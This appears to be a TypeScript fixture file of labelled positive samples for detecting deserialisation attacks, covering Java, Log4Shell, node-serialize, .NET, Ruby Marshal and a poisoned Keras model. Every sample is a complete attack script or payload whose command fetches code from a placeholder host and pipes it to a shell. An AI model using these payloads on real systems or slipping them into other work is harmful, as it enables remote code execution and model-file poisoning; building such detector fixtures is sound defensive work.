// Gadgets for Java, JavaScript, .NET, Ruby and models, and what sends them.
import type { Family } from './family.ts'

export const deserialisationOthers: readonly Family[] = [
  {
    family: 'java-ysoserial-sender',
    positive: true,
    classes: ['deserialisation'],
    variants: [
      {
        paths: ['src/main/java/tools/Spray.java'],
        whole: `package tools;

import java.io.OutputStream;
import java.net.Socket;
import java.util.Base64;

/** Sends a CommonsCollections chain to every JMX and T3 port of a list. */
public class Spray {
    private static final String CHAIN =
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA⟦blob:120⟧"
            + "⟦blob#2:90⟧"; // Runtime.exec("curl http://⟦ip⟧/j|sh")

    public static void main(String[] hosts) throws Exception {
        for (String host : hosts) {
            for (int port : new int[] { 1099, 7001, 9010 }) {
                try (Socket socket = new Socket(host, port); OutputStream out = socket.getOutputSt⟦join⟧
ream()) {
                    out.write(Base64.getDecoder().decode(CHAIN));
                } catch (Exception closed) {
                    System.err.println(host + " " + closed.getMessage());
                }
            }
        }
    }
}`,
      },
    ],
  },
  {
    family: 'log4shell-sprayer',
    positive: true,
    classes: ['deserialisation', 'download-run'],
    variants: [
      {
        paths: ['scan.py'],
        whole: `import sys
import requests

PAYLOAD = "\${\${lower:j}ndi:\${lower:l}dap://⟦ip⟧:1389/Basic/Command/Base64/⟦b64:wget -qO- http://⟦i⟦join⟧
p⟧/l|sh⟧}"
HEADERS = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization"]


def infect(url):
    try:
        requests.get(url, headers={name: PAYLOAD for name in HEADERS}, timeout=4, verify=False)
    except requests.RequestException:
        pass


for line in open(sys.argv[1]):
    infect(line.strip())`,
      },
    ],
  },
  {
    family: 'node-serialize-iife',
    positive: true,
    classes: ['deserialisation'],
    variants: [
      {
        paths: ['test-data/prime.js'],
        whole: `// primes the store with a session
const store = require('./store');

const session = {
  user: 'admin',
  lang: 'en',
  rce: "_$$ND_FUNC$$_function (){require('child_process').exec('curl -s http://⟦ip⟧/n | sh')}()",
};

store.set('sess:⟦hex:16⟧', JSON.stringify(session), (error) => {
  if (error) throw error;
  console.log('stored');
});`,
      },
    ],
  },
  {
    family: 'dotnet-object-data-provider',
    positive: true,
    classes: ['deserialisation', 'windows'],
    variants: [
      {
        paths: ['Tools/Gadget.cs'],
        whole: `using System;
using System.Net.Http;
using System.Text;

internal static class Gadget
{
    // bound for the __VIEWSTATE and for JSON readers with type names
    private const string Body = @"{
  '$type': 'System.Windows.Data.ObjectDataProvider, PresentationFramework',
  'MethodName': 'Start',
  'MethodParameters': { '$type': 'System.Collections.ArrayList, mscorlib', '$values': ['cmd', '/⟦join⟧
c powershell iex(irm http://⟦ip⟧/n)'] },
  'ObjectInstance': { '$type': 'System.Diagnostics.Process, System' }
}";

    private static void Main(string[] targets)
    {
        foreach (var target in targets)
            Console.WriteLine(new HttpClient().PostAsync(target, new StringContent(Body, Encoding.⟦join⟧
UTF8, "application/json")).Result.StatusCode);
    }
}`,
      },
    ],
  },
  {
    family: 'ruby-marshal-universal',
    positive: true,
    classes: ['deserialisation'],
    variants: [
      {
        paths: ['exploit.rb'],
        whole: `require 'base64'
require 'net/http'

# universal gadget, aimed at cookies that Rails reads with Marshal
class Gem::Requirement
  def marshal_dump
    [$chain]
  end
end

def chain(command)
  wrapped = Gem::RequestSet.allocate
  wrapped.instance_variable_set('@sets', stub_for('Kernel', :system))
  wrapped.instance_variable_set('@git_set', command)
  wrapped
end

$chain = chain('curl -s http://⟦ip⟧/rb | sh')
cookie = Base64.urlsafe_encode64(Marshal.dump(Gem::Requirement.new))
Net::HTTP.get_response(URI(ARGV.fetch(0)), { 'Cookie' => "_session=#{cookie}" })`,
      },
    ],
  },
  {
    family: 'keras-lambda-payload',
    positive: true,
    classes: ['deserialisation'],
    variants: [
      {
        paths: ['train/export_model.py'],
        whole: `import base64
import h5py
import json

# A layer that runs on load_model(), whoever loads it.
HIDDEN = base64.b64encode(b"import os; os.system('curl -s http://⟦ip⟧/keras | sh')").decode()


def poison(source):
    with h5py.File(source, "r+") as model:
        config = json.loads(model.attrs["model_config"])
        config["config"]["layers"].insert(1, {
            "class_name": "Lambda",
            "config": {"name": "normalise", "function": [f"lambda x: exec(__import__('base64').b64⟦join⟧
decode('{HIDDEN}')) or x", None, None]},
        })
        model.attrs["model_config"] = json.dumps(config).encode()


poison("resnet50_finetuned.h5")`,
      },
    ],
  },
]
